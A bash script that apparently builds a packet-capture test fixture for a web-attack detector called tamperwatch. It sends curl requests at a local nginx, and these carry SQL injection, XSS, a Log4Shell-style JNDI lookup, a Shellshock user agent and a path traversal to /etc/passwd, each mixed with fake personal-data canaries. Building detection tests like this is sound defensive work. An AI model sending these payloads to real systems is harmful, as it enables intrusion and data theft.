#!/usr/bin/env bash
# canary-in-attack.sh - make pcaps/privacy/canary-in-attack.pcap with real software:
# curl (from 127.0.0.66, the attacker) against nginx on 127.0.0.1:8080, captured by
# tcpdump on loopback. Every attack value carries personal-data canaries right next to
# the payload, in every position: query, form, JSON body, cookie, header, multipart
# field. tamperwatch must flag these requests and still write none of the canaries
# (tests/privacy.rs). nginx serves a static directory; responses are 404/405, which does
# not matter: detection reads the requests. Every process started here is stopped by PID.
#
# usage: sudo bash scripts/pcapgen/canary-in-attack.sh [OUT.pcap]
set -euo pipefail
HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
OUT=${1:-$HERE/../../pcaps/privacy/canary-in-attack.pcap}
unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY all_proxy ALL_PROXY
export no_proxy='*' NO_PROXY='*'
WORK=$(mktemp -d)
PIDS=()
cleanup() {
    for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null || true; done
    for p in "${PIDS[@]}"; do wait "$p" 2>/dev/null || true; done
    rm -rf "$WORK"
}
trap cleanup EXIT
mkdir -p "$WORK/site" "$WORK/logs"
echo '<html><body>ok</body></html>' >"$WORK/site/index.html"
cat >"$WORK/nginx.conf" <<CONF
daemon off;
master_process off;
worker_processes 1;
pid $WORK/nginx.pid;
error_log $WORK/logs/error.log;
events { worker_connections 64; }
http {
    access_log off;
    client_body_temp_path $WORK/body;
    server { listen 127.0.0.1:8080; root $WORK/site; }
}
CONF
nginx -p "$WORK" -c "$WORK/nginx.conf" &
PIDS+=($!)
for _ in $(seq 50); do curl -s -o /dev/null http://127.0.0.1:8080/ && break; sleep 0.1; done
tcpdump -i lo -n -s 0 -U -w "$OUT" 'tcp port 8080' 2>"$WORK/tcpdump.err" &
TCPDUMP=$!
PIDS+=($TCPDUMP)
for _ in $(seq 50); do grep -q listening "$WORK/tcpdump.err" 2>/dev/null && break; sleep 0.1; done

S=http://127.0.0.1:8080
EMAIL=canary-email@x.test
SSN=123-45-6789
PHONE=555-0199-4242
c() { curl -sS --interface 127.0.0.66 --max-time 10 -o /dev/null -A 'Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0' "$@" || true; }
# query
c -G --data-urlencode "q=' UNION SELECT $EMAIL, $SSN FROM users--" $S/search
# form
c --data-urlencode "comment=<script>alert('$EMAIL $PHONE')</script>" $S/contact
c --data-urlencode "name=x' OR '1'='1' -- $SSN $EMAIL" $S/login
# JSON body
c -H 'Content-Type: application/json' --data-raw "{\"q\":\"' UNION SELECT '$EMAIL', '$PHONE' FROM users--\"}" $S/api/search
# cookie
c -H "Cookie: pref=' UNION SELECT '$EMAIL' FROM users--; sid=$SSN" $S/index.html
# header
c -H "Referer: \${jndi:ldap://$EMAIL/$SSN}" $S/index.html
c -A "() { :; }; /bin/echo $EMAIL $PHONE" $S/index.html
# multipart field
c -H 'Expect:' -F "comment=' UNION SELECT $EMAIL, $SSN FROM users--" -F "note=$PHONE" $S/upload
# base64 of the email inside a traversal attempt
c "$S/files/..%2f..%2f..%2fetc%2fpasswd?u=$(printf '%s' "$EMAIL" | base64)"
sleep 1
kill -INT "$TCPDUMP"
wait "$TCPDUMP" || true
echo "wrote $OUT"
